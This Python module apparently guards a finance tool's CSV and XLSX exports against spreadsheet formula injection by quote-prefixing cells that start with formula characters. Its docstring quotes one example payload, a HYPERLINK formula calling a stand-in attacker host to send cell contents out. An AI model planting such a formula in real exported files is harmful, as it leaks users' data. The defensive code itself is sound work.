"""Spreadsheet cells that are never formulas (ADR 0063).

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage
return or line feed before one) as a formula: a memo ``=HYPERLINK("http://evil.example/?x="&A1,
"点击查看")`` would be a live link that sends the sheet's cells away. So every text cell of a CSV
or XLSX fundbook writes goes through here:

- CSV (OWASP): such a text gets a leading ``'``, which spreadsheets show as text;
- XLSX: such a cell is stored as a string (``data_type`` ``s``) with ``quotePrefix`` set, so it
  stays text even when someone edits it.

A plain decimal number (``-12.00``, ``1680.32``) is no formula and stays as it is: amounts are
numbers, negative ones too.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def is_risky(text: str) -> bool:
    """A text a spreadsheet could take for a formula (a plain decimal number is not)."""
    return text.startswith(FORMULA_STARTS) and _NUMBER.fullmatch(text) is None


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: a risky text prefixed with ``'``, anything else unchanged."""
    return f"'{value}" if isinstance(value, str) and is_risky(value) else value


def defuse_sheet(sheet: Any) -> None:
    """Every text cell of an openpyxl sheet that a spreadsheet could run is made a string cell
    (never a formula) with a quote prefix; numbers are left alone."""
    for row in sheet.iter_rows():
        for cell in row:
            defuse_cell(cell)


def defuse_cell(cell: Any) -> None:
    """One openpyxl cell (of a sheet, or a write-only cell before it is appended)."""
    if isinstance(cell.value, str) and (cell.data_type == "f" or is_risky(cell.value)):
        cell.data_type = "s"
        cell.quotePrefix = True
